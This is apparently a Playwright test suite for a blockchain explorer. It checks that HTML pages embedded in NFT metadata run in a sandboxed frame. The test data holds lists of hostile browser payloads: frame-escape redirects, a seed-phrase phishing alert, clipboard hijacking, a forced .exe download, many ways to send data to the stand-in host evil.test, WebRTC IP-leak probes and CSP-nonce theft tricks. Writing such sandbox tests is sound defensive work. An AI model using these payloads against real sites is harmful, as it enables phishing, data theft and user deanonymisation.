import type { Page } from '@playwright/test'
import { type FaultServer, json } from './fixtures/faults'
import { expect, test } from './fixtures/test'
import { at, chain } from '#/testing/pages'

// What an NFT's author wrote as a page: run on request, in a frame that reaches nothing.

test.use({ tolerates: 'refused attacks' })

const path = `/${chain}/token/${at.charts}/instance/7`
const overview = (page: Page) => page.getByRole('region', { name: 'Overview' })

function publish(faults: FaultServer, animation_url: string): void {
  faults.on(new RegExp(`/tokens/${at.charts}/instances/7$`, 'i'), async ({ real }) =>
    json({ ...(JSON.parse(await real()) as object), image_url: null, metadata: { name: 'Seven' }, animation_url }),
  )
}

/** Ways out of the frame and into the explorer. */
const escapes = [
  'top.location = "https://evil.test/top"',
  'parent.location = "https://evil.test/parent"',
  'parent.parent.document.title = "taken"',
  'parent.parent.postMessage({ state: "shown" }, "*")',
  'alert("give me your phrase")',
  'open("https://evil.test/window")',
  'localStorage.setItem("a", "b")',
  'document.cookie',
  'indexedDB.open("a")',
  'navigator.serviceWorker.getRegistrations()',
  'navigator.clipboard.writeText("0xevil")',
  'document.documentElement.requestFullscreen()',
  'document.body.append(Object.assign(document.createElement("form"), {action: "https://evil.test/form", target: "_top"})); document.forms[0].submit()',
  'Object.assign(document.createElement("a"), {href: "https://evil.test/a", target: "_top"}).click()',
  'Object.assign(document.createElement("a"), {href: "data:,x", download: "x.exe"}).click()',
]

/** Ways to send data to another host. */
const calls = [
  'fetch("https://evil.test/fetch")',
  'navigator.sendBeacon("https://evil.test/beacon", "x")',
  'new XMLHttpRequest().open("GET", "https://evil.test/xhr", false)',
  'new WebSocket("wss://evil.test/socket")',
  'new EventSource("https://evil.test/events")',
  'new Worker("https://evil.test/worker.js")',
  'import("https://evil.test/module.js")',
  'new Image().src = "https://evil.test/image"',
  'new Audio("https://evil.test/audio").play()',
  'new FontFace("a", "url(https://evil.test/font)").load()',
  ...['script', 'iframe', 'embed', 'video', 'img'].map(
    (name) =>
      `document.body.append(Object.assign(document.createElement("${name}"), {src: "https://evil.test/${name}"}))`,
  ),
  ...['stylesheet', 'prefetch', 'preload', 'icon', 'manifest', 'modulepreload'].map(
    (rel) =>
      `document.head.append(Object.assign(document.createElement("link"), {rel: "${rel}", as: "image", href: "https://evil.test/${rel}"}))`,
  ),
  'document.body.style.background = "url(https://evil.test/style)"',
  'document.head.append(Object.assign(document.createElement("base"), {href: "https://evil.test/"}))',
]

/** Ways to reach another browser, which would reveal the IP address. */
const connections = ['new RTCPeerConnection()', 'new webkitRTCPeerConnection()', 'self["RTC" + "DataChannel"].name']

/** Ways to navigate the frame itself. */
const departures = [
  'Object.assign(document.createElement("a"), {href: "https://evil.test/a", ping: "https://evil.test/ping"}).click()',
  'location = "https://evil.test/location"',
  'document.head.append(Object.assign(document.createElement("meta"), {httpEquiv: "refresh", content: "0;url=https://evil.test/refresh"}))',
]

/** A page that tries them, and shows which ran and which were refused. */
const program = (attempts: readonly string[]) => `<body><p id="out"></p><script>
  const outcome = ['origin ' + origin, 'referrer ' + JSON.stringify(document.referrer)]
  ${attempts.map((attempt) => `try { ${attempt}; outcome.push('ran') } catch { outcome.push('refused') }`).join('\n')}
  out.textContent = outcome.join(', ')
</script>`

/** Everything that must not happen, and separately the requests to other hosts. */
async function watch(page: Page, html: string) {
  const happened: string[] = []
  const asked: string[] = []
  page.on('dialog', (dialog) => {
    happened.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('download', (download) => happened.push(`a download: ${download.url()}`))
  page.on('websocket', (socket) => happened.push(`a socket: ${socket.url()}`))
  page.context().on('page', (opened) => happened.push(`a window: ${opened.url()}`))
  await page.context().route(/\.test\//, async (route) => {
    const request = route.request()
    asked.push(`${request.method()} ${request.url()} ${request.headers()['referer'] ?? ''}`.trim())
    await route.fulfill({ contentType: 'text/html', body: request.url().includes('evil') ? '' : html })
  })
  return { happened, asked }
}

async function expectUntouched(page: Page, site: string): Promise<void> {
  await expect(page).toHaveTitle('Seven · Meridian · Astrolabe')
  await expect(page).toHaveURL(site + path)
  await expect(overview(page).getByRole('button', { name: 'Show image' })).toBeVisible()
}

test('an HTML page in the metadata cannot connect by WebRTC, and keeps its layout', async ({ page, faults }) => {
  const html = `<!doctype html>${program([...connections, 'if (document.compatMode === "BackCompat") throw 0'])}`
  publish(faults, `data:text/html,${encodeURIComponent(html)}`)
  await page.goto(faults.site + path)
  await overview(page).getByRole('button', { name: 'Run HTML page' }).click()
  const inner = page.locator('iframe').contentFrame().locator('iframe').contentFrame()
  await expect(inner.locator('#out')).toHaveText('origin null, referrer "", refused, refused, refused, ran')
})

/** Opens the page of the NFT whose metadata hold this page, and runs it. */
async function run(page: Page, faults: FaultServer & { site: string }, html: string) {
  publish(faults, `data:text/html,${encodeURIComponent(html)}`)
  await page.goto(faults.site + path)
  await overview(page).getByRole('button', { name: 'Run HTML page' }).click()
  return page.locator('iframe').contentFrame().locator('iframe').contentFrame()
}

test('a frame inside an HTML page runs no script and gets no port', async ({ page, faults }) => {
  const said: string[] = []
  page.on('console', (message) => said.push(message.text()))
  const reached = 'console.log(String(1), typeof(RTCPeerConnection))'
  const inner = await run(
    page,
    faults,
    `<!doctype html><body onload="out.textContent = told.join()"><p id="out"></p>
    <iframe srcdoc="<script>${reached}</script><body onload='${reached}'>"></iframe>
    <iframe src="javascript:${reached}"></iframe>
    <div><template shadowrootmode="closed"><iframe srcdoc="<script>${reached}</script>"></iframe></template></div>
    <script>
      const told = []
      const tell = (text) => { if (/nonce-\\w/.test(text)) told.push(text) }
      addEventListener('securitypolicyviolation', ({ originalPolicy }) => tell(originalPolicy))
      const look = (script) => told.push(script.nonce, script.getAttribute('nonce'))
      look(document.currentScript)
      Object.defineProperty(Element.prototype, 'nonce', { set: (word) => told.push(word) })
      for (const built of [Function.prototype, Reflect]) built.call = built.apply = (...words) => told.push(...words)
      Array.prototype[Symbol.iterator] = function* () { yield { kind: Object, nonce: { set: (word) => told.push(word) } } }
      const made = document.createElement('script')
      document.body.append(made)
      look(made)
      look(made.cloneNode(true))
      tell(document.documentElement.outerHTML)
      try { new Worker('data:text/javascript,onsecuritypolicyviolation=({originalPolicy})=>postMessage(originalPolicy);importScripts("data:,")').onmessage = ({ data }) => tell(data) } catch {}
      told.push(typeof ReportingObserver)
      location = 'javascript:"<body onload=${reached}>"'
    </script>`,
  )
  await expect(inner.locator('#out')).toHaveText(',,,,,,undefined')
  await expect.poll(() => said.filter((text) => /refused|violates/i.test(text)).length).toBeGreaterThanOrEqual(4)
  expect(said.filter((text) => text.startsWith('1 '))).toEqual([])
})

test('an HTML page runs as its author wrote it', async ({ page, faults }) => {
  const script = (code: string) => `<script>${code}</scr"+"ipt>`
  const inner = await run(
    page,
    faults,
    `<!doctype html><body onload="done('load')"><p id="out"></p><p id="b" onclick="done(this.id + event.type)"></p>
    <script>const all = []; let first = 'let'; function done(what) { all.push(what); out.textContent = all.sort().join() }</script>
    <script>done(first); b.click()</script>
    <script src="data:text/javascript,done('data')"></script>
    <script type="module">import('data:text/javascript,done("imported")'); done('module')</script>
    <svg><script>done('svg')</script></svg>
    <script>
      const made = document.createElement('script')
      made.text = 'done("made")'
      document.body.append(made)
      document.body.append(Object.assign(document.createElement('script'), { src: URL.createObjectURL(new Blob(['done("blob")'])) }))
      document.body.append(document.createRange().createContextualFragment("${script("done('fragment')")}"))
      document.write("${script("done('written')")}")
      new Function('done("function")')()
      b.innerHTML = '<img src="x" onerror="done(&quot;handler&quot;)">'
    </script>`,
  )
  const all = 'bclick,blob,data,fragment,function,handler,imported,let,load,made,module,svg,written'
  await expect(inner.locator('#out')).toHaveText(all)
  await inner.locator('body').evaluate(() => {
    document.open()
    document.write('<p id="out"></p><script>out.textContent = "anew"</script>')
    document.close()
  })
  await expect(inner.locator('#out')).toHaveText('anew')
})

test('an HTML page of another host has no access to the explorer and its storage', async ({ page, faults }) => {
  const { happened, asked } = await watch(page, program(escapes))
  publish(faults, 'https://a.test/art')
  await page.goto(faults.site + path)
  await expect(overview(page).getByText('runs in a sandbox')).toBeVisible()
  expect(asked).toEqual([])
  await overview(page).getByRole('button', { name: 'Run HTML page' }).click()
  const frame = page.locator('iframe')
  await expect(frame.contentFrame().locator('#out')).toContainText('origin null, referrer "", refused')
  await expect(frame).toHaveAttribute('sandbox', 'allow-scripts')
  // First its size, then the page.
  expect(asked).toEqual(['HEAD https://a.test/art', 'GET https://a.test/art'])
  expect(happened).toEqual([])
  await expectUntouched(page, faults.site)
})

for (const [form, encode, leaving] of [
  ['as it is', (html: string) => `data:text/html,${encodeURIComponent(html)}`, departures],
  // The pages that leave need not be in both forms.
  ['in base64', (html: string) => ` data:TEXT/HTML;charset=utf-8;base64,${Buffer.from(html).toString('base64')}`, []],
] as const)
  test(`an HTML page in the metadata ${form} sends no request`, async ({ page, faults }) => {
    const { happened, asked } = await watch(page, '')
    publish(faults, encode(program([...escapes, ...calls])))
    await page.goto(faults.site + path)
    await expect(overview(page).getByText('Embedded in the metadata.')).toBeVisible()
    await page.waitForLoadState('networkidle')
    expect(page.frames()).toHaveLength(1)
    await overview(page).getByRole('button', { name: 'Run HTML page' }).click()
    const inner = page.locator('iframe').contentFrame().locator('iframe')
    await expect(inner.contentFrame().locator('#out')).toContainText('origin null, referrer "", refused')
    for (const frame of [page.locator('iframe'), inner]) await expect(frame).toHaveAttribute('sandbox', 'allow-scripts')
    // All earlier requests have been seen. The network may never become idle after a policy blocked a request midway.
    await page.evaluate(() => fetch('/config.json').then((answer) => answer.text()))
    for (const departure of leaving) {
      publish(faults, encode(`<body><script>${departure}</script>`))
      await page.goto(faults.site + path)
      await overview(page).getByRole('button', { name: 'Run HTML page' }).click()
      await expect.poll(() => page.frames().map((frame) => frame.url())).toContain('chrome-error://chromewebdata/')
    }
    expect(asked).toEqual([])
    expect(happened).toEqual([])
    await expectUntouched(page, faults.site)
  })

test('an HTML page shows an error and Retry if the policy of the site’s server blocks its frame', async ({
  page,
  faults,
}) => {
  // As hosts do that send the policy of all files for these files, too.
  await page.route('**/frames/page.html', async (route) => {
    const response = await route.fetch()
    const headers = { ...response.headers(), 'content-security-policy': "default-src 'none'; script-src 'self'" }
    await route.fulfill({ response, headers })
  })
  publish(faults, 'data:text/html,<p>here')
  await page.clock.install()
  await page.goto(faults.site + path)
  const served = page.waitForResponse('**/frames/page.html')
  await overview(page).getByRole('button', { name: 'Run HTML page' }).click()
  await served
  await page.clock.fastForward(10_000)
  await expect(overview(page).getByText('Couldn’t run the HTML page')).toBeVisible()
  await page.unrouteAll({ behavior: 'wait' })
  await overview(page).getByRole('button', { name: 'Retry' }).click()
  await expect(page.locator('iframe').contentFrame().locator('iframe').contentFrame().getByText('here')).toBeVisible()
})
